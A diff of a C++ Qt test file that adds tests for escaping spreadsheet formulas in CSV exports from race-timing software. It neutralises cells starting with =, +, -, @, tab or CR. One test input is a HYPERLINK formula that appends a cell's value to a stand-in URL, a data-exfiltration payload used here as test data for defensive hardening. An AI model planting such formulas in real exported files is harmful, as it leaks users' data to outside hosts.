@@ -4,6 +4,7 @@
 
 #include "support/TestSupport.h"
 
+#include <QDir>
 #include <QFile>
 #include <QPalette>
 #include <QTemporaryDir>
@@ -136,14 +137,66 @@ private slots:
                        "10,20,300,200,46,-1\r\nA,B\r\n,\r\n"));
     }
 
-    void csv_exactBytesWithoutQuoting()
+    void csv_plainCellsStayAsTheyAre_quotesAreDoubled()
     {
         const QByteArray expected = "Nr.;Name;Start;Zeit;Split;Platz;*\r\n"
                                     "3;Berg;;;;-;\r\n"
                                     "12;Anna Maier;9:05.10,00;1.05,12;0,00;1;65120\r\n"
-                                    "7;Max \"Turbo\" M\xC3\xBCller;;;;;\r\n"
+                                    "7;\"Max \"\"Turbo\"\" M\xC3\xBCller\";;;;;\r\n"
                                     ";;;;;;\r\n";
         QCOMPARE(GridCsvBytes(protocolStore()), expected);
+    }
+
+    void csvCell_data()
+    {
+        QTest::addColumn<QString>("cell");
+        QTest::addColumn<QString>("written");
+        QTest::newRow("plain name") << "Berg"
+                                    << "Berg";
+        QTest::newRow("time with comma") << "1.05,12"
+                                         << "1.05,12";
+        QTest::newRow("lone dash of a free row") << "-"
+                                                 << "-";
+        QTest::newRow("negative number") << "-12"
+                                         << "-12";
+        QTest::newRow("signed decimal") << "+3,5"
+                                        << "+3,5";
+        QTest::newRow("empty") << ""
+                               << "";
+        QTest::newRow("formula") << "=1+1"
+                                 << "\"'=1+1\"";
+        QTest::newRow("link formula with quotes and ;")
+            << "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")"
+            << "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1;\"\"klick\"\")\"";
+        QTest::newRow("plus") << "+49 170 1234"
+                              << "\"'+49 170 1234\"";
+        QTest::newRow("minus text") << "-Berg"
+                                    << "\"'-Berg\"";
+        QTest::newRow("at") << "@SUM(A1)"
+                            << "\"'@SUM(A1)\"";
+        QTest::newRow("tab first") << "\t=1"
+                                   << "\"'\t=1\"";
+        QTest::newRow("cr first") << "\r=1"
+                                  << "\"'\r=1\"";
+        QTest::newRow("semicolon") << "Berg; Anna"
+                                   << "\"Berg; Anna\"";
+        QTest::newRow("line break") << "Zeile 1\r\nZeile 2"
+                                    << "\"Zeile 1\r\nZeile 2\"";
+        QTest::newRow("own apostrophe, plain") << "'=x"
+                                               << "'=x";
+        QTest::newRow("own apostrophe, quoted for ;") << "'=x;y"
+                                                      << "\"''=x;y\"";
+        QTest::newRow("apostrophe text quoted for ;") << "'a;b"
+                                                      << "\"'a;b\"";
+        QTest::newRow("equals later") << "a=b"
+                                      << "a=b";
+    }
+
+    void csvCell()
+    {
+        QFETCH(QString, cell);
+        QFETCH(QString, written);
+        QCOMPARE(CsvCellText(cell), written);
     }
 
     void writeGridFile_reportsFailures()
@@ -159,7 +212,8 @@ private slots:
         QVERIFY(!WriteGridFile(QString(), "abc"));
         if (QFile::exists(QStringLiteral("/dev/full")))
             QVERIFY(!WriteGridFile(QStringLiteral("/dev/full"), QByteArray(100000, 'x'))); // disk full
-        QCOMPARE(GridWriteErrorText(QStringLiteral("a.txt")), QStringLiteral("Can't write to file:\ra.txt"));
+        QCOMPARE(GridWriteErrorText(QStringLiteral("a.txt")),
+            QStringLiteral("Can't write to file:\r") + QDir::current().absoluteFilePath(QStringLiteral("a.txt")));
     }
 };
 
